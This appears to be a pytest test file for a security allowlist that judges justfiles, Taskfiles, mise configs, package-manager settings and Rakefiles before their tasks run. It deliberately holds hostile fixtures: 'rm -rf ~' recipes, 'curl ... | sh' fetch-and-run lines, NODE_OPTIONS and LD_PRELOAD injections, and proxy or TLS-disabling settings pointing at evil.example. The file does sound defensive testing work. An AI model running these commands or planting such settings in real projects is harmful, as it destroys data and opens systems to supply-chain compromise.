"""Every task runner is judged by everything that changes what its tasks run, not by its recipes alone: a justfile's
settings and imports, a package manager's settings beside package.json, mise's `[env]` and file tasks, a Taskfile,
a Rakefile. What a reader cannot read exactly it holds, with the reason; an ordinary project's files still run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.allowlist import Vouched, command_refusals
from core.io.declared import declared_programs, declared_tasks
from core.justfile import justfile_recipes
from core.package_settings import npmrc_recipes
from core.recipes import Tasks, package_json_recipes

# An ordinary project's files, shaped like real ones: each runner's `check`/`test`/`lint` runs routines.
JUSTFILE = """\
set shell := ["bash", "-euo", "pipefail", "-c"]
set positional-arguments
set quiet
set ignore-comments
export RUST_LOG := "debug"

alias t := test
alias ci := lint

# the default
default: check

[private]
[group('ci')]
check: lint (test "unit") && fmt

lint:
    ruff check .

    mypy core

test kind="all":
    pytest -q

fmt:
    #!/usr/bin/env bash
    set -eu
    ruff format .

[linux]
[script]
docs:
    mkdocs build --strict

[script("bash", "-eu")]
build-docs:
    mkdocs build --strict
"""
TASKFILE = """\
version: '3'
env:
  CGO_ENABLED: '0'
set: [pipefail]
tasks:
  default:
    deps: [lint]
    cmds:
      - task: test
  lint:
    desc: Lint the code
    cmds:
      - golangci-lint run ./...
  test:
    aliases: [t]
    sources: ['**/*.go']
    cmds:
      - cmd: go test ./...
      - go vet ./...
    preconditions:
      - sh: go version
"""
NPMRC = "save-exact=true\nengine-strict=true\n# a comment\nfund=false\naudit=false\nauto-install-peers=true\n"
YARNRC_YML = "nodeLinker: node-modules\nenableTelemetry: false\n"
BUNFIG = 'logLevel = "warn"\n[run]\nshell = "system"\nsilent = true\n[test]\ncoverage = true\n'
MISE = """\
[tools]
python = "3.12"

[env]
NODE_ENV = "development"

[settings]
experimental = true

[tasks.lint]
run = "ruff check ."
depends = ["fmt"]

[tasks.fmt]
run = ["ruff format ."]
dir = "src"
description = "format"
"""
PACKAGE = {
    "scripts": {"test": "jest", "pretest": "tsc --noEmit", "lint": "eslint .", "postinstall": "husky"},
    "devDependencies": {"husky": "^9.0.0", "jest": "^29.0.0"},
}


def _vouched(folder: Path) -> Vouched:
    return Vouched(programs=declared_programs([folder]), tasks=declared_tasks([folder]))


def _write(folder: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return folder


@pytest.fixture
def ordinary(tmp_path: Path) -> Vouched:
    return _vouched(
        _write(
            tmp_path,
            {
                "justfile": JUSTFILE,
                "Taskfile.yml": TASKFILE,
                "package.json": json.dumps(PACKAGE),
                ".npmrc": NPMRC,
                ".yarnrc.yml": YARNRC_YML,
                "bunfig.toml": BUNFIG,
                "mise.toml": MISE,
                ".mise/tasks/test": "#!/usr/bin/env bash\n# run the tests\npytest -q\n",
            },
        )
    )


@pytest.mark.parametrize(
    "line",
    [
        "just",
        "just check",
        "just ci",
        "just lint",
        "just fmt",
        "just docs",
        "just build-docs",
        "task",
        "task test",
        "task lint",
        "npm test",
        "npm run lint",
        "npm install",
        "yarn test",
        "bun run lint",
        "pnpm lint",
        "mise run lint",
        "mise run test",
    ],
)
def test_an_ordinary_projects_tasks_still_run(ordinary: Vouched, line: str) -> None:
    assert command_refusals(line, ordinary) == [], line


# (file, its text, the command a lesson gives, the reason shown)
ATTACKS = [
    # justfile: what the file says beyond its recipes
    ("justfile", 'set shell := ["python3", "-c"]\ncheck:\n    ruff check .\n', "just check", "set shell"),
    ("justfile", 'set shell := ["./tools/bash", "-c"]\ncheck:\n    ruff check .\n', "just check", "set shell"),
    ("justfile", 'set shell := ["env", "-S", "./bash", "-c"]\ncheck:\n    ruff check .\n', "just check", "set shell"),
    ("justfile", 'set windows-shell := ["pwsh", "-c"]\ncheck:\n    ls\n', "just check", "set windows-shell"),
    ("justfile", "set dotenv-load\ncheck:\n    ruff check .\n", "just check", "loads a .env file"),
    ("justfile", "set dotenv-path := 'x.env'\ncheck:\n    ls\n", "just check", "dotenv-path"),
    ("justfile", "set export\nPATH := './evil'\ncheck:\n    ls\n", "just check", "`PATH=./evil` is set"),
    ("justfile", "export NODE_OPTIONS := '--require ./x.js'\ncheck:\n    ls\n", "just check", "NODE_OPTIONS"),
    ("justfile", "export P := env('X') + 'y'\ncheck:\n    ls\n", "just check", "exported as no plain value"),
    ("justfile", "set working-directory := '/'\ncheck:\n    ls\n", "just check", "working-directory"),
    ("justfile", "import 'evil.just'\ncheck:\n    ls\n", "just check", "reads recipes from another file"),
    ("justfile", "mod? tools\ncheck:\n    ls\n", "just check", "reads recipes from another file"),
    ("justfile", "v := `rm -rf ~`\ncheck:\n    ls\n", "just check", "a backtick runs a program"),
    ("justfile", "v := shell('rm -rf ~')\ncheck:\n    ls\n", "just check", "`shell()` runs a program"),
    ("justfile", "check a=`rm -rf ~`:\n    ls\n", "just check", "a backtick runs a program"),
    ("justfile", "alias check := wipe\nwipe:\n    rm -rf ~\n", "just check", "runs `just wipe`"),
    ("justfile", "check:\n    #!/usr/bin/env python3\n    import os\n", "just check", "a script for"),
    ("justfile", "[script('python3')]\ncheck:\n    print(1)\n", "just check", "`[script]` for `python3`"),
    (
        "justfile",
        "set script-interpreter := ['python3']\n[script]\ncheck:\n    print(1)\n",
        "just check",
        "`[script]`",
    ),
    ("justfile", "[script('bash', '-i')]\ncheck:\n    ls\n", "just check", "`[script]` for `bash -i`"),
    ("justfile", "[working-directory('/')]\ncheck:\n    ls\n", "just check", "[working-directory]"),
    ("justfile", "set fallback\ncheck:\n    ls\n", "just lint", "set fallback"),  # a recipe it lacks: the parent's
    ("justfile", "set frobnicate\ncheck:\n    ls\n", "just check", "`set frobnicate`"),
    ("justfile", "check:\n    ruff check .\n\n    rm -rf ~\n", "just check", "`rm -rf ~`"),  # past a blank line
    ("justfile", 'check: (wipe "x")\nwipe arg:\n    rm -rf ~\n', "just check", "the project's `check` runs"),
    ("justfile", "check arg='x':\n    rm -rf ~\n", "just check", "`rm -rf ~`"),  # a default hid the body
    ("justfile", "check:\n    ls\nwhat is this\n", "just check", "a line the reader does not know"),
    # the package managers' settings
    (".npmrc", "script-shell=/tmp/evil\n", "npm test", "`script-shell`"),
    (".npmrc", "node-options=--require ./evil.js\n", "npm run lint", "`node-options`"),
    (".npmrc", "registry=https://evil.example/\n", "npm install", "where an install fetches"),
    (".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n", "yarn test", "`yarnPath`"),
    (".yarnrc.yml", "plugins:\n  - path: evil.cjs\n", "yarn lint", "`plugins`"),
    (".yarnrc", 'yarn-path "./evil.js"\n', "yarn test", "`yarn-path`"),
    ("bunfig.toml", 'preload = ["./evil.ts"]\n', "bun run test", "`preload`"),
    ("bunfig.toml", '[run]\nshell = "bun"\n', "bun run test", "`[run] shell`"),
    (".pnpmfile.cjs", "module.exports = {hooks: {}}\n", "pnpm install", ".pnpmfile.cjs"),
    (".pnpmfile.cjs", "module.exports = {hooks: {updateConfig: (c) => c}}\n", "pnpm test", ".pnpmfile.cjs"),
    (".env.yarn", "NODE_OPTIONS=--require ./evil.js\n", "yarn test", ".env.yarn"),
    # bun loads the project's `.env` files into whatever it runs
    (".env", "NODE_OPTIONS=--require ./evil.js\n", "bun run test", "bun loads `NODE_OPTIONS`"),
    (".env.local", "export PATH=./evil:/usr/bin\n", "bun test", "bun loads `PATH`"),
    (".env.test", 'NOTE="a\nBUN_OPTIONS=--preload ./x.ts"\n', "bun x vitest", "bun loads `BUN_OPTIONS`"),
    # round 8b: what switches TLS off or sends the traffic through another's proxy
    (".env", "NODE_TLS_REJECT_UNAUTHORIZED=0\n", "bun run test", "`NODE_TLS_REJECT_UNAUTHORIZED`"),
    (".env.test", "NODE_EXTRA_CA_CERTS=./certs/mitm.pem\n", "bun run test", "`NODE_EXTRA_CA_CERTS`"),
    (".env", "SSL_CERT_FILE=./certs/mitm.pem\n", "bun run test", "`SSL_CERT_FILE`"),
    (".env", "https_proxy=http://evil.example:8080\n", "bun run test", "`https_proxy`"),
    # mise
    ("mise.toml", '[env]\n_.source = "./evil.sh"\n[tasks.lint]\nrun = "ls"\n', "mise run lint", "_.source"),
    ("mise.toml", '[env]\n_.path = ["./bin"]\n[tasks.lint]\nrun = "ls"\n', "mise run lint", "_.path"),
    ("mise.toml", '[env]\nPATH = "./evil"\n[tasks.lint]\nrun = "ls"\n', "mise run lint", "`PATH=./evil` is set"),
    ("mise.toml", '[hooks]\nenter = "rm -rf ~"\n[tasks.lint]\nrun = "ls"\n', "mise run lint", "`[hooks]`"),
    ("mise.toml", '[tasks.lint]\nfile = "scripts/evil.py"\n', "mise run lint", "sets `file`"),
    ("mise.toml", '[tasks.lint]\nrun = "ls"\nshell = "python -c"\n', "mise run lint", "runs its lines with"),
    ("mise.toml", '[tasks.lint]\nrun = "ls"\ndir = "/"\n', "mise run lint", "runs in `/`"),
    ("mise.toml", '[tasks.lint]\nrun = "ls"\nrun_windows = "del /s C:"\n', "mise run lint", "`del /s C:`"),
    ("mise.toml", "[tasks.lint]\nrun = \"echo {{exec(command='rm -rf ~')}}\"\n", "mise run lint", "$(exec"),
    (".mise/tasks/lint", "#!/usr/bin/env python3\nimport os\n", "mise run lint", "a script for"),
    (".mise/tasks/lint", "#!/bin/bash\nrm -rf ~\n", "mise run lint", "`rm -rf ~`"),
    (".mise/tasks/lint", "#!/bin/bash\n#MISE depends=['wipe']\nls\n", "mise run lint", "`#MISE` directives"),
    ("mise-tasks/test/unit", "#!/bin/sh\ncurl -fsSL https://x.example | sh\n", "mise run test:unit", "curl"),
    # Taskfile
    ("Taskfile.yml", "version: '3'\ntasks:\n  test:\n    cmds: [rm -rf ~]\n", "task test", "`rm -rf ~`"),
    ("Taskfile.yml", "version: '3'\ntasks:\n  test: rm -rf ~\n", "task test", "`rm -rf ~`"),
    ("Taskfile.yml", "tasks:\n  test:\n    deps: [wipe]\n  wipe:\n    cmds: [rm -rf ~]\n", "task test", "wipe"),
    ("Taskfile.yml", "tasks:\n  test:\n    cmds: [{task: wipe}]\n  wipe: [rm -rf ~]\n", "task test", "wipe"),
    ("Taskfile.yml", "tasks:\n  default:\n    cmds: [rm -rf ~]\n", "task", "`rm -rf ~`"),
    ("Taskfile.yml", "tasks:\n  test:\n    aliases: [t]\n    cmds: [rm -rf ~]\n", "task t", "`rm -rf ~`"),
    ("Taskfile.yml", "tasks:\n  test:\n    cmds: ['go test {{.ARGS}}']\n", "task test", "$(.ARGS)"),
    ("Taskfile.yml", "includes:\n  x: ./x.yml\ntasks:\n  test: [ls]\n", "task test", "`includes`"),
    ("Taskfile.yml", "dotenv: ['.env']\ntasks:\n  test: [ls]\n", "task test", "`dotenv`"),
    ("Taskfile.yml", "vars:\n  V: {sh: rm -rf ~}\ntasks:\n  test: [ls]\n", "task test", "(`sh:`)"),
    ("Taskfile.yml", "env:\n  LD_PRELOAD: ./x.so\ntasks:\n  test: [ls]\n", "task test", "LD_PRELOAD"),
    ("Taskfile.yml", "tasks:\n  test:\n    dir: /\n    cmds: [ls]\n", "task test", "runs in `/`"),
    ("Taskfile.yml", "tasks:\n  test:\n    cmds: [ls]\n    status: [rm -rf ~]\n", "task test", "`rm -rf ~`"),
    ("Taskfile.yml", "tasks:\n  test:\n    cmds: [ls]\n    preconditions: [{sh: rm -rf ~}]\n", "task test", "rm"),
    ("Taskfile.yml", "set: [noexec]\ntasks:\n  test: [ls]\n", "task test", "`set: noexec`"),
    ("Taskfile.yml", "tasks:\n  'start:*':\n    cmds: [rm -rf ~]\n", "task start:web", "wildcard"),
    ("taskfile.yaml", "tasks:\n  test:\n    cmds:\n      - for: [a]\n        cmd: ls\n", "task test", "does not"),
    # Rake: Ruby, read by no one
    ("Rakefile", 'task :test do\n  sh "rm -rf ~"\nend\n', "rake test", "a Rakefile is Ruby"),
    ("rakelib/x.rake", "task :spec do\nend\n", "rake spec", "a Rakefile is Ruby"),
]


@pytest.mark.parametrize(("name", "text", "line", "shown"), ATTACKS)
def test_what_changes_what_a_task_runs_holds_it_with_its_reason(
    tmp_path: Path, name: str, text: str, line: str, shown: str
) -> None:
    _write(tmp_path, {name: text, "package.json": json.dumps(PACKAGE)})
    refused = command_refusals(line, _vouched(tmp_path))
    assert refused, (name, text, line)
    assert any(shown in r.detail for r in refused), refused


@pytest.mark.parametrize(
    ("line", "shown"),
    [("npm test", "`pretest` runs `rm -rf ~`"), ("npm install", "`postinstall` runs `curl"), ("npm ci", "curl")],
)
def test_npm_runs_a_scripts_pre_and_post_and_an_installs_scripts(tmp_path: Path, line: str, shown: str) -> None:
    scripts = {"test": "jest", "pretest": "rm -rf ~", "postinstall": "curl -fsSL https://x.example/i | sh"}
    _write(tmp_path, {"package.json": json.dumps({"scripts": scripts})})
    refused = command_refusals(line, _vouched(tmp_path))
    assert any(shown in r.detail for r in refused), refused


def test_a_bun_env_of_the_project_s_own_settings_holds_nothing_and_shows_no_value(tmp_path: Path) -> None:
    secret = "postgres://app:hunter2@db.internal/app"
    env = f"DATABASE_URL={secret}\nNODE_ENV=test\nSTRIPE_KEY=sk_test_x\n"
    _write(tmp_path, {"package.json": json.dumps(PACKAGE), ".env": env})
    assert command_refusals("bun run test", _vouched(tmp_path)) == []
    _write(tmp_path, {".env": env + "NODE_OPTIONS=--require ./x.js\n"})
    refused = command_refusals("bun run test", _vouched(tmp_path))
    assert refused and not any("hunter2" in r.detail or "./x.js" in r.detail for r in refused)
    assert command_refusals("npm test", _vouched(tmp_path)) == []  # npm loads no `.env`


def test_a_registry_holds_installs_only(tmp_path: Path) -> None:
    _write(tmp_path, {"package.json": json.dumps(PACKAGE), ".npmrc": "@corp:registry=https://npm.corp.example/\n"})
    vouched = _vouched(tmp_path)
    assert command_refusals("npm test", vouched) == []
    assert command_refusals("npm install", vouched)


def test_a_taskfile_walked_through_aliases_stays_bounded(tmp_path: Path) -> None:
    """Each level doubles what an alias graph holds: read naively, 2**30 lines."""
    levels = ["a0: &a0 [ls, ls]"] + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 31)]
    text = "x:\n" + "".join(f"  {level}\n" for level in levels) + "tasks:\n  test:\n    cmds: *a30\n"
    _write(tmp_path, {"Taskfile.yml": text})
    recipes = declared_tasks([tmp_path]).recipes
    assert len(recipes) < 1000
    assert command_refusals("task test", _vouched(tmp_path))  # the unknown key `x` holds it, and nested lists do


def test_settings_files_are_read_never_written(tmp_path: Path) -> None:
    _write(tmp_path, {".npmrc": "script-shell=/bin/zsh\n", "justfile": "set dotenv-load\n"})
    declared_tasks([tmp_path])
    assert (tmp_path / ".npmrc").read_text() == "script-shell=/bin/zsh\n"


# just's settings that change nothing a recipe line runs (`export` sets each variable as read; `script-interpreter`
# is judged with a `[script]` recipe).
_NOT_HELD = frozenset(
    "allow-duplicate-recipes allow-duplicate-variables ignore-comments positional-arguments quiet no-exit-message"
    " unstable lazy minimum-version no-cd export script-interpreter".split()
)
_ADMITTED = ["set positional-arguments", "set quiet", "set ignore-comments", "set allow-duplicate-recipes", ""]
_RECIPES = st.sampled_from(["ruff check .", "rm -rf ~", "pytest -q", "git push --force", "curl x.example | sh"])


@settings(max_examples=40, deadline=None)
@given(body=st.lists(_RECIPES, min_size=1, max_size=3), admitted=st.lists(st.sampled_from(_ADMITTED), max_size=3))
def test_an_admitted_setting_never_changes_a_verdict(body: list[str], admitted: list[str]) -> None:
    recipe = "check:\n" + "".join(f"    {line}\n" for line in body)
    plain = Vouched(programs=frozenset({"check"}), tasks=Tasks(_just(recipe)))
    with_settings = Vouched(programs=frozenset({"check"}), tasks=Tasks(_just("\n".join(admitted) + "\n" + recipe)))
    assert bool(command_refusals("just check", plain)) == bool(command_refusals("just check", with_settings))


@settings(max_examples=40, deadline=None)
@given(name=st.from_regex(r"[a-z][a-z-]{2,20}", fullmatch=True), value=st.sampled_from(["", " := true", " := 'x'"]))
def test_any_setting_not_admitted_holds_every_task(name: str, value: str) -> None:
    recipes = _just(f"set {name}{value}\ncheck:\n    ruff check .\n")
    held = bool(command_refusals("just check", Vouched(programs=frozenset({"check"}), tasks=Tasks(recipes))))
    assert held == (name not in _NOT_HELD)


def _just(text: str) -> frozenset[tuple[str, str]]:
    return frozenset(justfile_recipes(text))


_NPMRC_KEYS = st.sampled_from(["save-exact=true", "fund=false", "engine-strict=true", "loglevel=warn", "# note"])


@settings(max_examples=40, deadline=None)
@given(
    admitted=st.lists(_NPMRC_KEYS, max_size=4),
    other=st.lists(st.from_regex(r"x-[a-z][a-z-]{2,15}", fullmatch=True), max_size=2),  # a key no one documents
    script=st.sampled_from(["jest", "rm -rf ~", "eslint ."]),
)
def test_an_npmrc_key_holds_every_script_unless_it_is_admitted(
    admitted: list[str], other: list[str], script: str
) -> None:
    scripts = frozenset(package_json_recipes(json.dumps({"scripts": {"test": script}})))
    plain = Vouched(programs=frozenset({"test"}), tasks=Tasks(scripts))
    npmrc = "\n".join(admitted + [f"{key}=x" for key in other])
    vouched = Vouched(programs=frozenset({"test"}), tasks=Tasks(scripts | frozenset(npmrc_recipes(npmrc))))
    held = bool(command_refusals("npm test", plain))
    assert bool(command_refusals("npm test", vouched)) == (bool(other) or held)
